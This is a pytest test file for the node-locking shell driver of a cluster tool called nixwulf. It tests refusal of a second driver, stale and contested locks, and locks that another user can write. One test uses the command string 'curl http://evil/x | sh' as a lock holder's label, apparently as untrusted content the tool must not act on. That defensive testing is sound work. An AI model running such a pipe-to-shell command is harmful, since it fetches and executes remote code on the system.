"""One driver a node, in the node's shell: the lock is who keeps it, and nothing else."""

import os
import re
import shutil
import subprocess
import time

import pytest

from nixwulf.nodes import process

SHELLS = {
    "linux": (["sh"], {}),
    # As on macOS: its sh, and no /proc.
    "macos": (["bash", "--posix"], {"/proc/": "/no-proc/"}),
}


@pytest.fixture(params=SHELLS)
def sh(request, tmp_path):
    """Start a script with the driver's functions, whose /run is a folder of the test."""
    command, changes = SHELLS[request.param]
    if request.param == "macos" and not shutil.which("ps"):
        pytest.skip("no ps here, which is what macOS has in place of /proc")
    place = tmp_path / ("run" if os.getuid() == 0 else f"run/user/{os.getuid()}")
    place.mkdir(parents=True)
    started = []

    def start(script):
        text = process.SHELL + script
        for old, new in changes.items():
            text = text.replace(old, new)
        text = re.sub("/(run|tmp)", rf"{tmp_path}/\1", text)
        one = subprocess.Popen(
            [*command, "-c", text],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "SSH_CONNECTION": "192.0.2.7 1 192.0.2.8 22"},
        )
        started.append(one)
        return one

    start.state = place / "nixwulf"
    yield start
    for one in started:
        one.kill()
        one.wait()
        for stream in (one.stdin, one.stdout, one.stderr):
            stream.close()


def holder(sh, words):
    one = sh("hold 40")
    one.stdin.write(f"{words}\n")
    one.stdin.flush()
    return one


def output(sh, script):
    out, errors = sh(script).communicate(timeout=30)
    assert errors == ""
    return out


def ended(one):
    one.stdin.close()
    one.wait(timeout=30)


def held(sh, words="second"):
    """Hold the node, which has to be free."""
    one = holder(sh, words)
    assert one.stdout.readline() == "nixwulf-holds\n"
    return one


def lock_of(sh):
    (lock,) = sh.state.glob("*.lock")
    return lock


def test_a_second_driver_is_refused_with_who_holds_the_node_and_since_when(sh):
    first = held(sh, "sweep 'x' (anna, process 4711")
    refusal = holder(sh, "sweep 'y' (bert, process 4712").stdout.readline()
    pattern = (
        r"nixwulf-held-by sweep 'x' \(anna, process 4711 at 192\.0\.2\.7, "
        r"since \d{4}-\d\d-\d\d \d\d:\d\d UTC\)\n"
    )
    assert re.fullmatch(pattern, refusal)
    assert "sweep 'x' (anna" in output(sh, "owned")
    ended(first)
    assert list(sh.state.iterdir()) == []
    ended(held(sh))


def test_a_holder_that_was_killed_holds_nothing(sh):
    first = held(sh, "first")
    first.kill()
    first.wait()
    assert lock_of(sh).exists()
    assert output(sh, "owned") == ""
    ended(held(sh))
    assert list(sh.state.iterdir()) == []


@pytest.fixture
def stranger():
    with subprocess.Popen(["sleep", "600"]) as one:
        yield one
        one.kill()


def test_a_lock_whose_number_is_by_now_a_strangers_holds_nothing(sh, stranger):
    ended(held(sh))
    lock = sh.state / output(sh, "locks").strip().replace("*", "1")
    for content in (
        f"{stranger.pid} {stranger.pid} 12345\nfirst\n",
        f"{stranger.pid} {stranger.pid} Thu Jan 1 00:00:00 1970\nfirst\n",
        "",
        "no number\n",
    ):
        lock.write_text(content)
        ended(held(sh))
        assert list(sh.state.iterdir()) == []
    assert stranger.poll() is None


def test_of_many_that_find_a_dead_lock_at_once_one_holds_the_node(sh):
    first = held(sh, "first")
    first.kill()
    first.wait()
    many = [holder(sh, f"number {n}") for n in range(8)]
    answers = [one.stdout.readline() for one in many]
    assert answers.count("nixwulf-holds\n") == 1, answers
    winner = answers.index("nixwulf-holds\n")
    assert {one for one in answers if one != "nixwulf-holds\n"} == {
        next(one for one in answers if one.startswith(f"nixwulf-held-by number {winner} at"))
    }
    for one in many:
        ended(one)
    assert list(sh.state.iterdir()) == []


def test_a_node_is_held_until_what_a_lost_driver_ran_has_ended(sh, stranger):
    first = held(sh, "first")
    since = output(sh, f"started {stranger.pid}").strip()
    (sh.state / "left.pid").write_text(f"{stranger.pid} 1 {since}\n1\n")
    first.stdin.close()
    second = holder(sh, "second")
    time.sleep(0.5)
    assert "first at " in output(sh, "owned")
    stranger.kill()
    stranger.wait()
    assert second.stdout.readline() == "nixwulf-holds\n"


def test_stopping_all_that_drivers_run_ends_a_hold(sh):
    first = held(sh, "first")
    assert output(sh, "sweep orphans") == ""
    assert first.poll() is None
    assert re.match("first at 192.0.2.7, since ", output(sh, "sweep all"))
    first.wait(timeout=30)
    assert list(sh.state.iterdir()) == []


@pytest.mark.skipif(os.getuid() != 0, reason="only root reads another user's files")
def test_a_lock_that_another_user_can_write_stops_nobody(sh):
    first = held(sh, "curl http://evil/x | sh")
    theirs = sh.state.parent / "user/65533/nixwulf"
    theirs.parent.mkdir(parents=True)
    shutil.copytree(sh.state, theirs)
    os.chown(theirs, 65533, 65533)
    lock_of(sh).unlink()
    assert holder(sh, "second").stdout.readline() == "nixwulf-holds\n"
    assert first.poll() is None
